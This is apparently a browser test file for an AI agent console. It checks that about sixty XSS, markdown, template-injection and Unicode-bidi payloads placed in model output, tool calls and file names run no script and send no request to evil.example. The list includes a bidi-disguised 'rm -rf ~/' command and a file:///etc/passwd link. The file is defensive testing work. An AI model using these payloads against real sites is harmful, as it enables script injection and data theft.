import assert from "node:assert/strict";
import test, { after } from "node:test";
import type { Message } from "gantry";
import {
  waitForPageState,
  NO_BROWSER,
  openWindow,
  sessionUrl,
  shareBrowser,
  startConsole,
} from "../../helpers/console.js";
import { callStep } from "../../helpers/fake-model-server.js";
import { startStreamedRun } from "../../helpers/server-runs.js";
import { seedSessions } from "../../helpers/seeded-sessions.js";
import { makeTempDir } from "../../helpers/temp-dir.js";

const browser = shareBrowser({ after });

/** Target of a payload's requests. No server exists at this address; an attempt is enough to fail the test. */
const EVIL_ORIGIN = "http://evil.example";
/** Code of a payload's script. It changes the title, which the test detects. */
const SCRIPT_CODE = "document.title='owned'";

/** Known payloads that make a page run third-party code or send requests. */
const PAYLOADS: readonly string[] = [
  // Plain markup.
  `<script>${SCRIPT_CODE}</script>`,
  `<script src="${EVIL_ORIGIN}/a.js"></script>`,
  `<img src=x onerror="${SCRIPT_CODE}">`,
  `<img src="${EVIL_ORIGIN}/pixel.png">`,
  `<img srcset="${EVIL_ORIGIN}/a.png 1x" src="data:image/png;base64,AAAA">`,
  `<svg onload="${SCRIPT_CODE}"></svg>`,
  `<svg><script>${SCRIPT_CODE}</script></svg>`,
  `<svg><use href="${EVIL_ORIGIN}/a.svg#x"></use><image href="${EVIL_ORIGIN}/b.png" /></svg>`,
  `<svg><animate onbegin="${SCRIPT_CODE}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${SCRIPT_CODE}"><text x=20 y=20>Click</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${SCRIPT_CODE}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${SCRIPT_CODE}">`,
  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT_CODE}>">`,
  `<iframe src="${EVIL_ORIGIN}/frame"></iframe>`,
  `<iframe srcdoc="<script>parent.${SCRIPT_CODE}</script>"></iframe>`,
  `<object data="${EVIL_ORIGIN}/o.swf"></object><embed src="${EVIL_ORIGIN}/e.swf">`,
  `<link rel="stylesheet" href="${EVIL_ORIGIN}/a.css"><link rel="prefetch" href="${EVIL_ORIGIN}/p">`,
  `<style>@import "${EVIL_ORIGIN}/s.css"; body { background: url(${EVIL_ORIGIN}/bg.png) }</style>`,
  `<div style="background:url(${EVIL_ORIGIN}/d.png)">styled</div>`,
  `<base href="${EVIL_ORIGIN}/"><a href="x">based</a>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL_ORIGIN}/meta">`,
  `<form action="${EVIL_ORIGIN}/form"><input autofocus onfocus="${SCRIPT_CODE}"><button>Go</button></form>`,
  `<details open ontoggle="${SCRIPT_CODE}"><summary>More</summary></details>`,
  `<video src="${EVIL_ORIGIN}/v.mp4" poster="${EVIL_ORIGIN}/p.png" autoplay onloadstart="${SCRIPT_CODE}"></video>`,
  `<audio src="${EVIL_ORIGIN}/a.mp3" autoplay></audio>`,
  `<body onload="${SCRIPT_CODE}"><marquee onstart="${SCRIPT_CODE}">`,
  `<a id="app"></a><form id="timeline" name="body"><input name="children"></form>`,
  `<template><script>${SCRIPT_CODE}</script></template><slot onslotchange="${SCRIPT_CODE}">`,
  `<xss style="animation-name:x" onanimationstart="${SCRIPT_CODE}"></xss>`,
  `<a href="${EVIL_ORIGIN}/ping" ping="${EVIL_ORIGIN}/pinged">pinged</a>`,
  `</textarea></title></style></script><img src=x onerror="${SCRIPT_CODE}">`,
  `<scr\u0000ipt>${SCRIPT_CODE}</scr\u0000ipt><IMG """><SCRIPT>${SCRIPT_CODE}</SCRIPT>">`,
  `<!--><img src=x onerror="${SCRIPT_CODE}">--> <![CDATA[<img src=x onerror="${SCRIPT_CODE}">]]>`,
  `[script](javascript:${SCRIPT_CODE})`,
  `[script](JaVaScRiPt&#58;${SCRIPT_CODE})`,
  `[script](java\tscript:${SCRIPT_CODE}) [x](\u0001javascript:${SCRIPT_CODE})`,
  `[data](data:text/html;base64,PHNjcmlwdD5kb2N1bWVudC50aXRsZT0nb3duZWQnPC9zY3JpcHQ+)`,
  `[vb](vbscript:x) [file](file:///etc/passwd) [blob](blob:x) [api](/api/sessions) [relative](//evil.example/x)`,
  `![picture](${EVIL_ORIGIN}/markdown.png)`,
  `![picture](/api/sessions?from=markdown)`,
  `![picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImRvY3VtZW50LnRpdGxlPSdvd25lZCciLz4=)`,
  `![x](x"onerror="${SCRIPT_CODE})`,
  `![x][ref]\n\n[ref]: ${EVIL_ORIGIN}/reference.png "onload=${SCRIPT_CODE}"`,
  `<javascript:${SCRIPT_CODE}> <${EVIL_ORIGIN}/auto>`,
  `[link](${EVIL_ORIGIN}/"onmouseover="${SCRIPT_CODE})`,
  `\`\`\`"><img/src=x/onerror=${SCRIPT_CODE}>\n<script>${SCRIPT_CODE}</script>\n\`\`\``,
  `\`\`\`html\n<img src="${EVIL_ORIGIN}/code.png" onerror="${SCRIPT_CODE}"><script>${SCRIPT_CODE}</script>\n\`\`\``,
  `\`\`\`mermaid\nclick A "javascript:${SCRIPT_CODE}"\n\`\`\``,
  `| <img src=x onerror=${SCRIPT_CODE}> | b |\n| --- | --- |\n| [x](javascript:${SCRIPT_CODE}) | <script>${SCRIPT_CODE}</script> |`,
  `- [x] <img src=x onerror="${SCRIPT_CODE}">\n  <svg onload="${SCRIPT_CODE}">`,
  `[^1]: <script>${SCRIPT_CODE}</script>\n\n$$<img src=x onerror=${SCRIPT_CODE}>$$`,
  `${"> ".repeat(400)}<img src=x onerror="${SCRIPT_CODE}">`,
  // Strings that only some fields interpret as more than text.
  `javascript:${SCRIPT_CODE}`,
  `\u001b]8;;javascript:${SCRIPT_CODE}\u0007link\u001b]8;;\u0007 \u001b[31m<img src=x onerror="${SCRIPT_CODE}">\u001b[0m`,
  `"><img src=x onerror=${SCRIPT_CODE}><a href="`,
  `' autofocus onfocus='${SCRIPT_CODE}`,
  `{{constructor.constructor("${SCRIPT_CODE}")()}} \${${SCRIPT_CODE}} <%= ${SCRIPT_CODE} %>`,
  `\u202e<script>${SCRIPT_CODE}</script>`,
  `ls \u202e; '~/ fr- mr' \u202c \u2066x\u2069 l\u200bs \u061c\u{e0041} &#x202e;back`,
  `#code=stolen&<img src=${EVIL_ORIGIN}/hash>`,
];

test(
  "payloads in content of models, tools, files and names run no script and send no request",
  { skip: NO_BROWSER },
  async (t) => {
    assert.ok(PAYLOADS.length >= 40, `${PAYLOADS.length} payloads`);
    const home = await makeTempDir();
    t.after(() => home.remove());
    // Puts each payload into each field with external content.
    const ids = await seedSessions(
      home.path,
      PAYLOADS.map((payload) => ({
        title: payload,
        provider: payload,
        model: payload,
        projectDir: `/${payload}`,
        messages: createMessages(payload),
      })),
    );
    const console = await startConsole(t, { home: home.path });
    const { page, faults, requests } = await openWindow(t, await browser(), console.url, { height: 2400 });
    await page.evaluate("window.same = true");
    await page.locator(".side-session").first().waitFor();
    for (const [index, id] of ids.entries()) {
      const payload = PAYLOADS[index]!;
      await page.evaluate(`location.hash = ${JSON.stringify(`#/s/${id}`)}`);
      await page.locator(".answer").first().waitFor();
      // Unfold everything, so that all content is rendered.
      await waitForPageState(page, () => page.evaluate<boolean>(UNFOLD_SCRIPT));
      const findings = await page.evaluate<Record<string, unknown>>(FIND_ACTIVE_CONTENT);
      assert.deepEqual(findings, NO_FINDINGS, payload);
      assert.deepEqual(faults, [], payload);
    }
    const unexpectedRequests = requests.filter(
      (request) => !/^(GET|POST) \/(console|api)/.test(request) || /from=markdown/.test(request),
    );
    assert.deepEqual(unexpectedRequests, []);
  },
);

test(
  "payloads in permission requests, questions and model names are shown as text",
  { skip: NO_BROWSER },
  async (t) => {
    const payload = `<img src=x onerror="${SCRIPT_CODE}"><script>${SCRIPT_CODE}</script> \u202e; '~/ fr- mr' \u202c l\u200bs`;
    const home = await makeTempDir();
    t.after(() => home.remove());
    const [id = ""] = await seedSessions(home.path, [{ mode: "ask", title: payload }]);
    const console = await startConsole(t, { home: home.path, models: { models: [payload, "m1"] } });
    console.models.enqueue(
      callStep("write", { filePath: `${payload.replaceAll("/", "")}.txt`, content: payload }),
      callStep("bash", { command: "echo safe \u202e; '~/ fr- mr' ohce; #\u202c done", description: payload }),
      callStep("ask_user", { question: payload, choices: [payload, "no"] }),
    );
    const { page, faults } = await openWindow(t, await browser(), sessionUrl(console, id));
    await page.evaluate("window.same = true");
    await page.locator("#prompt").fill(payload);
    await page.locator("#prompt").press("Enter");
    await page.locator(".call-waiting").waitFor();
    assert.deepEqual(await page.evaluate(FIND_ACTIVE_CONTENT), NO_FINDINGS);
    await page.getByRole("button", { name: "Allow", exact: true }).click();
    const command = page.getByRole("group", { name: "Command" });
    await command.waitFor();
    assert.deepEqual(await page.evaluate(FIND_ACTIVE_CONTENT), NO_FINDINGS);
    assert.equal(await command.textContent(), "echo safe \\u202e; '~/ fr- mr' ohce; #\\u202c done");
    await page.getByRole("button", { name: "Reject", exact: true }).click();
    await page.locator(".call-waiting", { hasText: "Ask" }).waitFor();
    assert.deepEqual(await page.evaluate(FIND_ACTIVE_CONTENT), NO_FINDINGS);
    await page.getByRole("button", { name: "no", exact: true }).click();
    await page.locator(".answer", { hasText: "OK." }).waitFor();
    assert.deepEqual(await page.evaluate(FIND_ACTIVE_CONTENT), NO_FINDINGS);
    assert.deepEqual(faults, []);
  },
);

test("payloads that stream in pieces leave no active content in the page", { skip: NO_BROWSER }, async (t) => {
  const console = await startConsole(t);
  // Without the deep quote and the payloads after it, which are not Markdown.
  const text = PAYLOADS.slice(0, 51).join("\n\n");
  const textPieces = text.match(/[^]{1,7}/gu) ?? [];
  console.models.enqueue({ say: [{ text: textPieces }], pace: 1 });
  const { page, faults } = await openWindow(t, await browser(), console.url);
  await page.evaluate("window.same = true");
  const { sessionId, ended } = await startStreamedRun(console.server, { message: "Say it" });
  await page.goto(sessionUrl(console, sessionId));
  await ended;
  await page.locator(".run-end", { hasText: "tokens" }).waitFor();
  const findings = await page.evaluate<Record<string, unknown>>(FIND_ACTIVE_CONTENT);
  assert.deepEqual({ ...findings, same: true }, NO_FINDINGS);
  assert.deepEqual(faults, []);
});

/** Script that unfolds all rows. Returns whether nothing is folded and an output is shown. */
const UNFOLD_SCRIPT = `(() => {
  const folded = [...document.querySelectorAll(".fold[aria-expanded=false]")];
  for (const fold of folded) fold.click();
  // Rows outside the view are not rendered.
  if (document.querySelector(".output") === null) document.getElementById("timeline").scrollTop = 0;
  return folded.length === 0 && document.querySelector(".output") !== null;
})()`;

/** Result of `FIND_ACTIVE_CONTENT` for a page without findings. */
const NO_FINDINGS = { same: true, owned: false, elements: [], attributes: [], links: [], pictures: [], hidden: [] };

/**
 * Script that finds content that must not be in the page. `same`: the page was not reloaded. `owned`: a payload changed
 * the title. `hidden`: texts with reordering characters or, outside prose, with invisible characters.
 */
const FIND_ACTIVE_CONTENT = `(() => {
  const all = [...document.body.querySelectorAll("*")];
  const attributes = all.flatMap((element) => [...element.attributes].map(({ name, value }) => ({ element, name, value })));
  const texts = attributes.filter(({ name }) => /^(title|alt|placeholder|aria-label)$/.test(name)).map(({ value }) => value);
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const { parentElement, data } = walker.currentNode;
    texts.push(parentElement.closest(".markdown") && !parentElement.closest("pre, code") ? data.replace(/[\u200b\u061c\u{e0041}]/gu, "") : data);
  }
  return {
    hidden: [...texts, document.title].filter((text) => /[\u202a-\u202e\u2066-\u2069\u200b\u061c\u{e0041}]/u.test(text)),
    same: window.same === true,
    owned: document.title === "owned",
    elements: all.map(({ localName }) => localName).filter((name) => /^(script|iframe|object|embed|link|meta|base|style|video|audio|template|marquee|xss|use|image|animate|math)$/.test(name)),
    attributes: attributes.filter(({ name }) => /^(on|ping$|srcset$|srcdoc$|action$|formaction$|xlink)/.test(name)).map(({ name }) => name),
    links: attributes.filter(({ element, name, value }) => name === "href" && !(/^(https?:|mailto:)/.test(value) && element.rel === "noopener noreferrer" && element.target === "_blank") && !/^#/.test(value)).map(({ value }) => value),
    pictures: attributes.filter(({ name, value }) => name === "src" && !/^data:image\\/(png|jpeg|gif|webp);base64,/.test(value)).map(({ value }) => value),
  };
})()`;

function createMessages(payload: string): Partial<Message>[] {
  const input = { filePath: payload, path: payload, command: payload, url: payload, [payload]: payload };
  const tools = ["bash", "edit", "webfetch", payload];
  const calls = tools.map((name, index) => ({
    type: "tool_call" as const,
    id: `call-${index}-${payload}`,
    name,
    arguments: index === 3 ? payload : JSON.stringify(input),
  }));
  const results = calls.map(({ id, name }, index): Partial<Message> => ({
    role: "tool",
    toolCallId: id,
    name,
    failed: index === 2,
    parts: [
      { type: "text", text: payload },
      { type: "image", mediaType: "image/svg+xml", data: Buffer.from(payload).toString("base64") },
      { type: "image", mediaType: payload, data: payload },
      { type: "file", mediaType: payload, filename: payload, data: payload },
    ],
    ...(index === 1 && {
      shown: {
        diff: [{ path: payload, oldText: `a\n${payload}\n`, newText: `${payload}\nb\n` }],
        locations: [{ path: payload }],
      },
    }),
  }));
  return [
    {
      parts: [
        { type: "text", text: payload },
        { type: "file", mediaType: payload, filename: payload, data: payload },
      ],
    },
    { role: "system", parts: [{ type: "text", text: payload }] },
    { role: "assistant", parts: [{ type: "reasoning", text: payload }, { type: "text", text: payload }, ...calls] },
    ...results,
    {
      role: "assistant",
      parts: [{ type: "text", text: `# ${payload}\n\n${payload}\n\n1. ${payload}\n\n> ${payload}` }],
    },
  ];
}
